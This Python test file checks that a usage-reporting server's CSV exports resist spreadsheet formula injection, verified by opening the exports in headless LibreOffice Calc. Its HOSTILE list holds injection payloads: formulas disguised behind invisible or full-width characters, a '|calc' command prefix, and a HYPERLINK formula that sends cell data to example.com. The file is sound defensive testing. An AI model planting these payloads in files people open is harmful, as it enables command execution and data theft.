"""The CSV exports opened in a real spreadsheet engine: LibreOffice Calc, headless
(Debian's ``libreoffice-calc-nogui``), converts each downloaded file to a flat ODF
spreadsheet, whose cells say whether they are formulas, numbers or text.

Issue 11 (7): the formula guard looked only at the first character, so ``" =2+2"``,
``"\\u200b=7+7"``, ``"|calc"`` and others were written without it.
"""

from __future__ import annotations

import csv
import shutil
import subprocess
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from pathlib import Path

import httpx2 as httpx
import pytest

from tests.conftest import IN_CI, make_event
from tests.reliability.conftest import Keys, create_keys
from tests.support.server import ServerProcess

# What a hostile client might put into every text it sends: formulas behind blank or
# invisible characters, and every sign a spreadsheet may read as a formula's start.
HOSTILE = [
    "=2+2",
    " =2+2",
    "\u00a0=3+3",
    "\u3000=4+4",
    "\u2003-5+5",
    "\u200b=7+7",
    "\ufeff=8+8",
    "\u202e=9+9",
    "|calc",
    "\ufe62 1",
    "\ufe66 1+1",
    "\uff1d1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=HYPERLINK("http://example.com/?"&A1)',
]
NUMBER_COLUMNS = {
    "requests",
    "error_requests",
    "input_tokens",
    "output_tokens",
    "total_tokens",
    "duration_ms",
    "usage_seconds",
}
# The CSV import as Calc's dialog offers it by default, and with "trim spaces" on.
IMPORTS = {
    "default": "CSV:44,34,76,1,,1033,false,true",
    "trimmed": "CSV:44,34,76,1,,1033,false,true,false,false,true,-1,true",
}
_NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}
pytestmark = pytest.mark.parametrize("backend", ["sqlite"], indirect=True)


@dataclass(frozen=True)
class Cell:
    kind: str  # "string", "float", ... or "" for an empty cell
    text: str
    formula: str | None


@pytest.fixture(scope="module")
def soffice() -> str:
    found = shutil.which("soffice")
    if found is None:
        if IN_CI:
            pytest.fail("LibreOffice (libreoffice-calc-nogui) is required in CI")
        pytest.skip("LibreOffice not installed (scripts/ensure-test-deps.sh installs it)")
    return found


def _open_in_calc(soffice: str, files: list[Path], import_options: str) -> list[list[list[Cell]]]:
    """Each CSV file as LibreOffice Calc reads it: rows of cells."""
    out = files[0].parent / f"calc-{import_options.count(',')}"
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{files[0].parent / 'lo-profile'}",
            "--headless",
            f"--infilter={import_options}",
            "--convert-to",
            "fods",
            "--outdir",
            str(out),
            *map(str, files),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    return [_cells(out / f"{file.stem}.fods") for file in files]


def _cells(path: Path) -> list[list[Cell]]:
    rows = []
    tree = ET.parse(path)  # noqa: S314 (written by LibreOffice here, from our CSV)
    for row in tree.getroot().iterfind(".//table:table-row", _NS):
        cells = []
        for cell in row.iterfind("table:table-cell", _NS):
            repeat = int(cell.get(f"{{{_NS['table']}}}number-columns-repeated", "1"))
            text = "\n".join("".join(p.itertext()) for p in cell.iterfind("text:p", _NS))
            kind = cell.get(f"{{{_NS['office']}}}value-type", "")
            formula = cell.get(f"{{{_NS['table']}}}formula")
            cells += [Cell(kind, text, formula)] * min(repeat, 100)
        rows.append(cells)
    return rows


def _raw_csv(path: Path) -> None:
    """The hostile texts written without any guard: what Calc makes of those."""
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(["text", "number"])
        for value in HOSTILE:
            writer.writerow([value, 12])


def _hostile_exports(server: ServerProcess, keys: Keys, directory: Path) -> list[Path]:
    """Events whose every text is hostile, sent to the server, and its three exports
    of them downloaded into ``directory``."""
    events = [
        make_event(
            event_id=value,
            user={"id": value, "name": value, "email": f"user{n}@example.com"},
            model=value,
            provider=value,
            input_tokens=100 + n,
            output_tokens=n,
        )
        for n, value in enumerate(HOSTILE)
    ]
    headers = {"Authorization": f"Bearer {keys.ingest}"}
    stored = httpx.post(f"{server.url}/api/v1/events", json={"events": events}, headers=headers)
    assert stored.status_code == 200, stored.text
    files = []
    for granularity in ("summary", "daily", "events"):
        export = httpx.get(
            f"{server.url}/api/v1/reports/user-usage/export",
            params={"start": "2026-11-25", "end": "2026-11-25", "tz": "UTC"}
            | {"granularity": granularity},
            headers={"Authorization": f"Bearer {keys.read}"},
            timeout=60,
        )
        assert export.status_code == 200, export.text
        files.append(directory / f"{granularity}.csv")
        files[-1].write_bytes(export.content)
    return files


def test_no_cell_of_a_hostile_export_is_a_formula_and_numbers_stay_numbers(
    database_url: str, tmp_path: Path, soffice: str
) -> None:
    keys = create_keys(database_url)
    with ServerProcess(database_url, tmp_path) as server:
        files = _hostile_exports(server, keys, tmp_path)
    _raw_csv(tmp_path / "unguarded.csv")

    for name, options in IMPORTS.items():
        *sheets, unguarded = _open_in_calc(soffice, [*files, tmp_path / "unguarded.csv"], options)
        # The engine does see formulas in what is not guarded: this test can fail.
        assert any(cell.formula for row in unguarded for cell in row), name
        for granularity, sheet in zip(("summary", "daily", "events"), sheets, strict=True):
            header = [cell.text for cell in sheet[0]]
            body = [row for row in sheet[1:] if any(cell.kind for cell in row)]
            assert len(body) == len(HOSTILE), (name, granularity)
            formulas = [cell for row in sheet for cell in row if cell.formula]
            assert formulas == [], (name, granularity, formulas)
            for row in body:
                by_column = dict(zip(header, row, strict=False))
                for column in NUMBER_COLUMNS & by_column.keys():
                    assert by_column[column].kind == "float", (name, granularity, column, row)
                hostile = by_column["user_id"].text
                assert hostile.lstrip("'") in HOSTILE, (name, granularity, hostile)
                assert by_column["user_id"].kind == "string"
